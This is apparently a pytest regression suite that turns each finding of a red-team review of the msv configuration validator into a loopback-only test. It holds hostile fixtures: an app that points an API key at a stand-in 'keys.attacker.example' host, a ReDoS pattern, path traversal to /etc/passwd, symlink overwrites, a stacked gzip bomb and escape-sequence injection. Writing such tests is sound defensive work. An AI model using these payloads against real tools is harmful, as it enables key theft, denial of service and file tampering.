"""One regression test per finding of the red-team review (../shared/reviews/security.md, F1–F12),
each the review's reproduction turned into a test (loopback only), plus what the fix promises
around it. The trust boundary they test is stated in :mod:`validator.trust` and README "Security".
"""

from __future__ import annotations

import base64
import gzip
import json
import os
import tracemalloc
from pathlib import Path

import pytest

from hangguard import hang_guard
from hardkit import Scripted, leaks, msv, write_tree

KEY = "sk-feedfacefeedface0123456789abcdef"
EVIL_EXT = """hosts:
  - {id: evil, pattern: "keys.attacker.example", family: shared, region: cn-beijing, plan: payg,
     status: supported, callers: any-workspace, usage: any,
     protocols: {openai: /compatible-mode/v1, dashscope: /api/v1}, source: x, confidence: inferred}
"""
# The review read the key from the environment; here it is in the file (the same target, without
# the environment's own target, which would send the test to the real Model Studio hosts).
EVIL_APP = ('from openai import OpenAI\nclient = OpenAI(api_key="' + KEY + '", '
            'base_url="https://keys.attacker.example/compatible-mode/v1")\n')
PROBE = ["probe", "--no-cache", "--no-environment", "--timeout", "2", "--total-timeout", "10",
         "--candidate-host", "127.0.0.1:*"]


@pytest.fixture
def repo(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A scratch repository as the current folder, with an empty user-level config home."""
    root = tmp_path / "repo"
    root.mkdir()
    monkeypatch.chdir(root)
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    return root



def _loopback_ext(server: Scripted) -> str:
    from fakems import catalogue_extension

    return catalogue_extension({"gateway": (server, "cn-beijing")})


def _reject(req: dict) -> dict:
    return {"status": 401, "body": {"error": {"message": "Incorrect API key provided.",
                                              "type": "invalid_request_error", "code": "invalid_api_key"}}}


# --------------------------------------------------------------------------- F1


def test_f1_repo_settings_cannot_make_a_host_a_probe_destination(repo: Path, servers) -> None:
    """The review's repro with a loopback gateway: the extension from the repository's settings
    names the server; the probe sends it nothing and says why."""
    gw = servers(_reject)
    write_tree(repo, {".msv.toml": 'catalogues = ["cat.yaml"]\n', "cat.yaml": _loopback_ext(gw),
                      "app.py": EVIL_APP.replace("https://keys.attacker.example", gw.url())})
    r = msv([*PROBE, "."])
    assert r.exc is None, r
    assert gw.requests == [], "a host from the repository's settings received a request"
    assert "not a probe destination" in r.stdout and "cat.yaml" in r.stdout
    assert not leaks(r.everything, KEY)


def test_f1_the_same_extension_on_the_command_line_is_trusted(repo: Path, servers) -> None:
    gw = servers(_reject)
    write_tree(repo, {".msv.toml": 'catalogues = ["cat.yaml"]\n', "cat.yaml": _loopback_ext(gw),
                      "app.py": EVIL_APP.replace("https://keys.attacker.example", gw.url())})
    r = msv([*PROBE, "--catalogue", "cat.yaml", "."])
    assert r.exc is None, r
    assert gw.requests, "an extension passed with --catalogue is trusted: its host is probed"


def test_f1_an_extension_in_the_user_config_is_trusted(repo: Path, tmp_path: Path, servers) -> None:
    gw = servers(_reject)
    ext = tmp_path / "config" / "msv" / "gateway.yaml"
    ext.parent.mkdir(parents=True)
    ext.write_text(_loopback_ext(gw), encoding="utf-8")
    (ext.parent / "config.toml").write_text('catalogues = ["gateway.yaml"]\n', encoding="utf-8")
    write_tree(repo, {"app.py": EVIL_APP.replace("https://keys.attacker.example", gw.url())})
    r = msv([*PROBE, "."])
    assert r.exc is None, r
    assert gw.requests


def test_f1_a_remote_host_from_repo_settings_never_reaches_the_proxy(repo: Path, servers) -> None:
    """The review's exact repro: HTTPS_PROXY is a recording loopback proxy; it must see no
    CONNECT to the attacker's host."""
    proxy = servers(lambda req: {"status": 403, "body": "no"})
    write_tree(repo, {".msv.toml": 'catalogues = ["cat.yaml"]\n', "cat.yaml": EVIL_EXT, "app.py": EVIL_APP})
    r = msv([*PROBE, "."], env={"HTTPS_PROXY": proxy.url(), "HTTP_PROXY": proxy.url(), "NO_PROXY": ""})
    assert r.exc is None, r
    assert not any("attacker" in req["target"] or "attacker" in str(req["headers"]) for req in proxy.requests)
    assert "keys.attacker.example is added by cat.yaml" in r.stdout


def test_f1_repo_supplied_regexes_are_refused(repo: Path) -> None:
    """``(a|aa)+$`` on 61 characters backtracks for hours: refused, it never runs (a hang if it did)."""
    write_tree(repo, {".msv.toml": 'catalogues = ["cat.yaml"]\n',
                      "cat.yaml": 'placeholders:\n  - {pattern: "^(a|aa)+$", source: x, confidence: inferred}\n',
                      ".env": "DASHSCOPE_API_KEY=" + "a" * 60 + "b\n"})
    with hang_guard("a ReDoS pattern from repository settings"):
        r = msv(["check", "--format", "json", "."], env={"DASHSCOPE_API_KEY": "a" * 60 + "b"})
    assert r.exc is None and r.code in (0, 1), r
    doc = json.loads(r.stdout)
    skipped = [f for f in doc["findings"] if f["rule"] == "untrusted-setting"]
    assert skipped and skipped[0]["path"] == "cat.yaml" and skipped[0]["line"] == 2
    assert "literal text" in skipped[0]["message"]


def test_f1_literal_patterns_from_repo_settings_still_work(repo: Path) -> None:
    write_tree(repo, {".msv.toml": 'catalogues = ["cat.yaml"]\n',
                      "cat.yaml": 'placeholders:\n  - {pattern: "^our\\\\-team\\\\-key$", source: x, confidence: inferred}\n',
                      ".env": "DASHSCOPE_BASE_URL=https://dashscope.aliyuncs.com/compatible-mode/v1\n"
                              "DASHSCOPE_API_KEY=our-team-key\n"})
    r = msv(["check", "--format", "json", "."])
    doc = json.loads(r.stdout)
    assert not [f for f in doc["findings"] if f["rule"] == "untrusted-setting"], doc["findings"]
    assert any(f["rule"] == "unreplaced-placeholder" for f in doc["findings"]), doc["findings"]


@pytest.mark.parametrize("section", ["clients:\n  - {id: x}\n", "probes: []\nno_probe: []\n",
                                     "meta: {version: '9', as_of: '2099-01-01'}\n"])
def test_f1_sections_that_steer_keys_need_a_trusted_extension(repo: Path, section: str) -> None:
    write_tree(repo, {".msv.toml": 'catalogues = ["cat.yaml"]\n', "cat.yaml": section})
    r = msv(["check", "--format", "json", "."])
    assert r.code in (0, 1), r
    assert any(f["rule"] == "untrusted-setting" for f in json.loads(r.stdout)["findings"])


def test_f1_a_repo_extension_cannot_replace_a_bundled_host(repo: Path) -> None:
    hijack = EVIL_EXT.replace("id: evil", "id: dashscope-cn-beijing")
    write_tree(repo, {".msv.toml": 'catalogues = ["cat.yaml"]\n', "cat.yaml": hijack})
    r = msv(["check", "--format", "json", "."])
    found = [f for f in json.loads(r.stdout)["findings"] if f["rule"] == "untrusted-setting"]
    assert found and "not replace" in found[0]["message"]


# --------------------------------------------------------------------------- F2


def _sarif_repo(repo: Path) -> None:
    write_tree(repo, {".env": "DASHSCOPE_BASE_URL=https://dashscope.aliyuncs.com/compatible-mode/v1/chat/completions\n"})


@pytest.mark.parametrize("flag", ["--output", "--write-baseline"])
def test_f2_output_never_writes_through_a_planted_symlink(repo: Path, tmp_path: Path, flag: str) -> None:
    _sarif_repo(repo)
    victim = tmp_path / "victim.txt"
    victim.write_text("ORIGINAL")
    (repo / "msv.sarif").symlink_to(victim)
    r = msv(["check", ".", "--format", "sarif", flag, "msv.sarif"])
    assert r.code == 2 and r.exc is None, r
    assert "symbolic link" in r.stderr and "msv.sarif" in r.stderr
    assert victim.read_text() == "ORIGINAL"
    assert (repo / "msv.sarif").is_symlink()


def test_f2_init_never_writes_through_a_planted_symlink(repo: Path, tmp_path: Path) -> None:
    _sarif_repo(repo)
    victim = tmp_path / "victim.txt"
    victim.write_text("ORIGINAL")
    (repo / "modelstudio.yaml").symlink_to(victim)
    r = msv(["init", "--force", "."])
    assert r.code == 2, r
    assert victim.read_text() == "ORIGINAL"


def test_f2_a_linked_folder_is_refused_and_a_missing_one_created(repo: Path, tmp_path: Path) -> None:
    _sarif_repo(repo)
    outside = tmp_path / "outside"
    outside.mkdir()
    (repo / "reports").symlink_to(outside, target_is_directory=True)
    r = msv(["check", ".", "--format", "sarif", "--output", "reports/msv.sarif"])
    assert r.code == 2 and "symbolic link" in r.stderr, r
    assert list(outside.iterdir()) == []
    r = msv(["check", ".", "--format", "sarif", "--output", "new/dir/msv.sarif"])
    assert r.code in (0, 1), r
    assert json.loads((repo / "new" / "dir" / "msv.sarif").read_text())["version"] == "2.1.0"
    assert [p.name for p in (repo / "new" / "dir").iterdir()] == ["msv.sarif"]   # no temporary file left


def test_f2_fix_never_writes_through_a_link_out_of_the_tree(repo: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside.env"
    text = "DASHSCOPE_BASE_URL=https://dashscope.aliyuncs.com/compatible-mode/v1/chat/completions\n"
    outside.write_text(text)
    (repo / ".env").symlink_to(outside)
    msv(["check", "--isolated", "--fix", "."])
    assert outside.read_text() == text


# --------------------------------------------------------------------------- F3


def test_f3_a_repeated_dashscope_label_is_checked(repo: Path) -> None:
    """The review's 180 KB README line stalled msv for over a minute. Its growth ratio (linear)
    is measured by ``bench/hostile.py`` (readme-dashscope, dotenv-url); here: it is checked."""
    write_tree(repo, {"README.md": "see https://" + "dashscope" * 20000 + "\n",
                      ".env": "DASHSCOPE_BASE_URL=https://" + "dashscope" * 20000 + "\n"})
    with hang_guard("180 KB of dashscope"):
        r = msv(["check", "--isolated", "."])
    assert r.exc is None and r.code in (0, 1), r


def test_f3_the_url_finder_matches_what_the_old_regex_matched() -> None:
    """The linear finder is the old regex, rewritten: same matches on a structured corpus."""
    import random
    import re

    from validator.sources.markers import MS_HOST, MS_URL

    host = (r"(?:[a-z0-9_{}-]+\.)*(?:[a-z0-9-]*dashscope[a-z0-9-]*(?:\.[a-z0-9-]+)+"
            r"|[a-z0-9-]+\.maas\.aliyuncs\.com)")
    old_url = re.compile(r"(?:https?|wss?)://" + host + r"(?::\d+)?(?:/[A-Za-z0-9\-._~:/?#@!$&*+=%{}]*)?", re.I)
    old_host = re.compile(r"(?<![A-Za-z0-9.-])" + host + r"(?![A-Za-z0-9-])", re.I)
    parts = ["dashscope", ".", "maas", ".aliyuncs.com", "a", "-", "_", "{", "}", "https://", "http://",
             "/v1", ":80", " ", "DashScope", "..", "wss://", "intl"]
    rng = random.Random(11)
    for _ in range(20000):
        t = "".join(rng.choice(parts) for _ in range(rng.randint(0, 12)))
        assert [(m.start(), m.group(0)) for m in old_url.finditer(t)] == \
               [(m.start(), m.group(0)) for m in MS_URL.finditer(t)], t
        assert (old_host.fullmatch(t) is None) == (MS_HOST.fullmatch(t) is None), t


# --------------------------------------------------------------------------- F4

BODY = "0123456789abcdef0123456789abcdef"
SPELLINGS = {
    ".claude/settings.json": '{"env": {"ANTHROPIC_BASE_URL": "https://dashscope.aliyuncs.com/apps/anthropic/v1/messages", '
                             '"ANTHROPIC_AUTH_TOKEN": "\\u0073k-' + BODY + '"}}\n',
    "py/escaped.py": 'from openai import OpenAI\nc = OpenAI(api_key="\\x73k-' + BODY
                     + '", base_url="https://dashscope.aliyuncs.com/compatible-mode/v1/chat/completions")\n',
    "py/implicit.py": 'from openai import OpenAI\nc = OpenAI(api_key="s" "k-' + BODY
                      + '", base_url="https://dashscope.aliyuncs.com/compatible-mode/v1/chat/completions")\n',
    "py/plus.py": 'from openai import OpenAI\nc = OpenAI(api_key="sk-" + "' + BODY
                  + '", base_url="https://dashscope.aliyuncs.com/compatible-mode/v1/chat/completions")\n',
    "py/continued.py": 'from openai import OpenAI\nc = OpenAI(base_url="https://dashscope.aliyuncs.com/compatible-mode/v1/'
                       'chat/completions", api_key="sk-' + BODY[:16] + '\\\n' + BODY[16:] + '")\n',
    "py/upper.py": 'from openai import OpenAI\nc = OpenAI(api_key="SK-' + BODY.upper()
                   + '".lower(), base_url="https://dashscope.aliyuncs.com/compatible-mode/v1/chat/completions")\n',
    "js/x.js": 'import OpenAI from "openai";\nconst a = new OpenAI({apiKey: "\\x73k-' + BODY
               + '", baseURL: "https://dashscope.aliyuncs.com/compatible-mode/v1/chat/completions"});\n',
    "js/u.js": 'import OpenAI from "openai";\nconst b = new OpenAI({apiKey: "\\u{73}k-' + BODY
               + '", baseURL: "https://dashscope.aliyuncs.com/compatible-mode/v1/chat/completions"});\n',
}


@pytest.mark.parametrize("path", sorted(SPELLINGS))
def test_f4_snippets_and_diff_hide_a_key_in_any_spelling(repo: Path, path: str) -> None:
    write_tree(repo, {path: SPELLINGS[path]})
    key = "sk-" + BODY
    for args in (["check", "--isolated", "."], ["check", "--isolated", "--diff", "."],
                 ["check", "--isolated", "--no-color", "--list-targets", "."]):
        r = msv(args)
        assert r.exc is None, r
        assert not leaks(r.everything, key), (args, leaks(r.everything, key), r.everything[-2000:])
    assert msv(["check", "--isolated", "."]).stdout.count("|") >= 1   # there were snippets to hide it in


# --------------------------------------------------------------------------- F5


def test_f5_dev_zero_from_settings_is_never_read(repo: Path) -> None:
    write_tree(repo, {".msv.toml": 'catalogues = ["/dev/zero"]\n'})
    tracemalloc.start()
    with hang_guard("catalogues = /dev/zero"):
        r = msv(["check", "--format", "json", "."])
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 64 * 1024 * 1024
    assert r.code in (0, 1), r
    found = [f for f in json.loads(r.stdout)["findings"] if f["rule"] == "untrusted-setting"]
    assert found and found[0]["path"] == ".msv.toml" and "/dev/zero" in found[0]["message"]


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs here")
def test_f5_a_fifo_from_settings_never_blocks(repo: Path) -> None:
    os.mkfifo(repo / "ff")
    write_tree(repo, {".msv.toml": 'catalogues = ["ff"]\n'})
    with hang_guard("catalogues = a FIFO"):
        r = msv(["check", "--format", "json", "."])
    assert r.code in (0, 1), r
    assert "not a regular file" in r.stdout


def test_f5_a_trusted_catalogue_that_is_a_device_is_refused_too(repo: Path) -> None:
    with hang_guard("--catalogue /dev/zero"):
        r = msv(["check", "--isolated", "--catalogue", "/dev/zero", "."])
    assert r.code == 2 and "not a regular file" in r.stderr, r


# --------------------------------------------------------------------------- F6


@pytest.mark.parametrize("name", ["/etc/passwd", "../outside.yaml", "link.yaml"])
def test_f6_settings_cannot_read_files_outside_the_repo(repo: Path, tmp_path: Path, name: str) -> None:
    secret_line = "AWS_SECRET_ACCESS_KEY: wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEY"
    (tmp_path / "outside.yaml").write_text(secret_line + "\n")
    (repo / "link.yaml").symlink_to(tmp_path / "outside.yaml")
    write_tree(repo, {".msv.toml": f'catalogues = ["{name}"]\n'})
    r = msv(["check", "."])
    assert r.code in (0, 1), r
    assert "outside the folder" in r.stdout
    for needle in ("AWS_SECRET_ACCESS_KEY", "wJalr", "root:"):
        assert needle not in r.everything


# --------------------------------------------------------------------------- F7


def test_f7_catalogue_errors_are_redacted_and_neutralised(repo: Path) -> None:
    write_tree(repo, {"c1.yaml": "sk-0123456789abcdef0123456789abcdef: 1\n",
                      "c2.yaml": '"\\x73k-1123456789abcdef0123456789abcdef\\x1b]0;TITLE\\x07": 1\n'})
    for ext, key in (("c1.yaml", "sk-0123456789abcdef0123456789abcdef"),
                     ("c2.yaml", "sk-1123456789abcdef0123456789abcdef")):
        r = msv(["check", "--isolated", "--catalogue", ext, "."])
        assert r.code == 2, r
        assert not leaks(r.everything, key), r.everything
        assert "\x1b" not in r.everything and "\x07" not in r.everything


def test_f7_settings_errors_and_debug_tracebacks_are_redacted(repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    key = "sk-2123456789abcdef0123456789abcdef"
    write_tree(repo, {".msv.toml": f'key-region = "\\u001b]52;c;{key}\\u0007"\n'})
    r = msv(["check", "."])
    assert r.code == 2 and not leaks(r.everything, key) and "\x1b" not in r.everything, r

    import validator.cli.run as check_cli   # the body of `msv check` (click and the fast path share it)

    def boom(*a, **k):  # type: ignore[no-untyped-def]
        raise ValueError("bad value \\x73k-" + key[3:] + " \x1b]0;T\x07")

    monkeypatch.setattr(check_cli, "_run", boom)
    for args in (["--debug", "check", "--isolated", "."], ["check", "--isolated", "."], ["check", "."]):  # last: no click
        r = msv(args)
        assert r.code == 2, r
        assert not leaks(r.everything, key), r.everything
        assert "\x1b" not in r.everything and "\x07" not in r.everything


# --------------------------------------------------------------------------- F8

N = 100000
F8_INPUTS = {
    "actions": (".github/workflows/ci.yml",
                'on: push\njobs:\n  a:\n    runs-on: x\n    env:\n      DASHSCOPE_API_KEY: "' + "${{" * N + '"\n'),
    "powershell": ("setup.ps1", "# dashscope\n$env:DASHSCOPE_API_KEY = 'x' " + "<#" * N + "\n"),
    "shell": ("setup.sh", '# dashscope\nexport DASHSCOPE_BASE_URL="' + "${A:-" * (N // 2) + '"\n'),
    "typescript": ("app.ts", "// dashscope\n" + "process.env." * (N // 2) + "\n"),
}


@pytest.mark.parametrize("kind", sorted(F8_INPUTS))
def test_f8_pathological_lines_in_readers_are_checked(repo: Path, kind: str) -> None:
    """Each line is checked (no traceback, no hang); how its cost grows is in ``bench/hostile.py``."""
    path, text = F8_INPUTS[kind]
    write_tree(repo, {path: text})
    with hang_guard(f"F8 {kind}"):
        r = msv(["check", "--isolated", "."])
    assert r.exc is None and r.code in (0, 1), r


def test_f8_rewritten_finders_match_the_old_regexes() -> None:
    import random
    import re

    from validator.sources.refs import _BRACED, _braced, _braced_refs
    from validator.sources.shell import _blank, _blank_ps_comments

    old_ps = re.compile(r"(?m)(?:^|(?<=[ \t]))#[^\r\n]*|<#.*?#>", re.S)
    rng = random.Random(8)
    for _ in range(20000):
        t = "".join(rng.choice(["${", "}", "A", "env:", ":-", "-", ":?", ":+", ":", "x", " ", "$", "{"])
                    for _ in range(rng.randint(0, 12)))
        assert [_braced(m) for m in _BRACED.finditer(t)] == list(_braced_refs(t)), t
        p = "".join(rng.choice(["<#", "#>", "#", " ", "\n", "x", "\t"]) for _ in range(rng.randint(0, 12)))
        assert _blank(p, old_ps) == _blank_ps_comments(p), repr(p)


# --------------------------------------------------------------------------- F9


def test_f9_many_keys_sharing_a_prefix_are_all_redacted(repo: Path) -> None:
    """The growth ratio of redacting many keys is ``bench/hostile.py`` redact-many-secrets."""
    lines = ["from openai import OpenAI"]
    lines += [f"c{i} = OpenAI(base_url='https://dashscope.aliyuncs.com/compatible-mode/v1/chat/completions', "
              f"api_key='sk-{i:032x}')" for i in range(1750)]
    write_tree(repo, {"app.py": "\n".join(lines) + "\n"})
    with hang_guard("1,750 keys sharing sk-0000"):
        r = msv(["check", "--isolated", "."])
    assert r.exc is None, r
    assert not leaks(r.stdout, f"sk-{1234:032x}")


# --------------------------------------------------------------------------- F10


def _stacked_bomb(inner_mib: int) -> bytes:
    import zlib

    c = zlib.compressobj(9, zlib.DEFLATED, 31)
    chunk = b" " * (1 << 20)
    once = b"".join(c.compress(chunk) for _ in range(inner_mib)) + c.flush()
    return gzip.compress(once)


def test_f10_a_stacked_gzip_body_is_bounded_by_its_decoded_size() -> None:
    from validator.probe.transport import MAX_BODY, decode_body

    bomb = _stacked_bomb(256)
    assert len(bomb) < 64 * 1024
    tracemalloc.start()
    body = decode_body(bomb, "gzip, gzip")
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert len(body) <= MAX_BODY and body.strip() == b""
    assert peak < 8 * 1024 * 1024, f"decoding peaked at {peak} bytes"
    assert decode_body(gzip.compress(b'{"a": 1}'), "gzip") == b'{"a": 1}'
    assert decode_body(b"\x00garbage", "gzip") == b"" and decode_body(b"raw", "br") == b"raw"


def test_f10_the_probe_survives_a_stacked_gzip_bomb(repo: Path, servers) -> None:
    bomb = _stacked_bomb(256)
    srv = servers(lambda req: {"status": 401, "body": bomb, "headers": {"Content-Encoding": "gzip, gzip"}})
    (repo / "loop.yaml").write_text(_loopback_ext(srv), encoding="utf-8")
    tracemalloc.start()
    r = msv(["probe", "--no-cache", "--catalogue", "loop.yaml", "--base-url", srv.url("/compatible-mode/v1"),
             "--key-env", "K", "--timeout", "3", "--total-timeout", "10", "--format", "json"], env={"K": KEY})
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert r.exc is None and r.code in (0, 1, 3), r
    assert peak < 64 * 1024 * 1024, f"the probe peaked at {peak} bytes"
    assert srv.requests and srv.requests[0]["headers"].get("Accept-Encoding") == "identity"


# --------------------------------------------------------------------------- F11

PASTED = {
    "wrapped": "Error code: 401 - invalid key sk-0123456789\nabcdef0123456789abcdef",
    "base64": "401 Unauthorized, sent Basic " + base64.b64encode(b"sk-0123456789abcdef0123456789abcdef").decode(),
    "base64-userpass": "Authorization: Basic " + base64.b64encode(b"user:sk-0123456789abcdef0123456789abcdef").decode(),
    "upper": "401 Unauthorized: SK-0123456789ABCDEF0123456789ABCDEF",
    "no-space": "Authorization:Bearer0123456789abcdef0123456789abcdef",
    "token": "Authorization: Token 0123456789abcdef0123456789abcdef",
    "x-api-key": "x-api-key: 0123456789abcdef0123456789abcdef",
    "query": "GET /v1/models?api_key=0123456789abcdef0123456789abcdef -> 401",
    "userinfo": "https://user:0123456789abcdef0123456789abcdef@dashscope.aliyuncs.com/v1 401",
}


@pytest.mark.parametrize("shape", sorted(PASTED))
def test_f11_pasted_errors_hide_keys_in_any_shape(repo: Path, shape: str) -> None:
    for fmt in ("text", "json"):
        r = msv(["diagnose", "--no-user-configs", "--error", PASTED[shape], "--format", fmt, "."])
        assert r.exc is None and r.code in (0, 1), r
        out = r.everything.lower()
        assert "0123456789" not in out and "abcdef0123" not in out, (shape, fmt, r.everything)
        assert "c2stmdeymz" not in out and "dxnlcjpzay0wmtiz" not in out   # base64 of the key, of user:key


# --------------------------------------------------------------------------- F12


def test_f12_dot_localhost_is_not_loopback() -> None:
    from validator.probe.safety import is_loopback

    assert is_loopback("localhost") and is_loopback("127.0.0.1") and is_loopback("[::1]")
    assert not is_loopback("evil.localhost") and not is_loopback("localhost.evil.example")


def test_f12_an_extension_cannot_allow_plain_http_to_dot_localhost(repo: Path) -> None:
    ext = EVIL_EXT.replace('"keys.attacker.example"', '"evil.localhost:8080"').replace(
        "source: x", "allow_http: true, source: x")
    (repo / "ext.yaml").write_text(ext, encoding="utf-8")
    r = msv(["probe", "--catalogue", "ext.yaml", "--base-url", "http://evil.localhost:8080/compatible-mode/v1",
             "--key-env", "K", "--no-cache", "--timeout", "1", "--total-timeout", "3"], env={"K": KEY})
    assert r.code == 2 and "allow_http" in r.everything, r



# --------------------------------------------------------------------------- beyond the review


def test_a_gitignore_pattern_cannot_backtrack_for_seconds() -> None:
    """The review did not try the ``.gitignore`` matcher (a file of the repository): a plain
    translation of ``*a*a*a*a*a*a*a*b`` took 22 s on a 50-character name, so on 4,000 it would
    never end (the hang guard); the growth ratio is ``bench/hostile.py`` gitignore."""
    from validator.sources.walk import _compile

    rule = _compile("*a*a*a*a*a*a*a*b")
    assert rule is not None
    with hang_guard("a hostile .gitignore line"):
        assert rule.regex.match("a" * 4000) is None
        assert rule.regex.match("a" * 4000 + "b") is not None


def test_the_gitignore_translation_keeps_its_meaning() -> None:
    import random
    import re

    from validator.sources.walk import _compile

    def plain(line: str) -> re.Pattern[str]:
        anchored = "/" in line
        line = line.lstrip("/")
        parts, i = [], 0
        while i < len(line):
            if line.startswith("**/", i):
                parts.append("(?:.*/)?")
                i += 3
            elif line.startswith("/**", i) and i + 3 == len(line):
                parts.append("/.*")
                i += 3
            elif line.startswith("**", i):
                parts.append(".*")
                i += 2
            elif line[i] == "*":
                parts.append("[^/]*")
                i += 1
            else:
                parts.append("[^/]" if line[i] == "?" else re.escape(line[i]))
                i += 1
        return re.compile(("^" if anchored else "^(?:.*/)?") + "".join(parts) + "$")

    rng = random.Random(9)
    for _ in range(5000):
        pat = "".join(rng.choice(["*", "**", "**/", "/", "a", "b", "ab", "?"]) for _ in range(rng.randint(1, 6)))
        pat = pat.rstrip("/")
        rule = _compile(pat)
        if not pat or rule is None:
            continue
        old = plain(pat)
        for _ in range(10):
            t = "".join(rng.choice(["a", "b", "/", "ab"]) for _ in range(rng.randint(0, 8)))
            assert (old.match(t) is None) == (rule.regex.match(t) is None), (pat, t)
    for real in ("**/foo/**/*.py", "docs/**/*.md", "*.pyc", "/build", "**/*.min.js", "*.sw?", "**/.idea/**"):
        assert _compile(real) is not None, real
